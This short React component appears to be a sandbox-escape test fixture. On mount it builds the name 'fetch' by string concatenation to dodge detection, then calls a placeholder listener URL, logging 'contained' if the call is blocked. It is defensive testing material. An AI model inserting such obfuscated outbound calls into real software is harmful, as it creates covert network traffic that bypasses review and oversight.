import { useEffect } from "react";

// Escape attempt: fetch_computed_concat
export default function Hostile() {
  useEffect(() => {
    try {
      window["fe" + "tch"]("__LISTENER__/fetch_computed_concat");
    } catch (error) {
      console.info("contained", error && error.message);
    }
  }, []);
  return <p data-testid="hostile">fetch_computed_concat</p>;
}
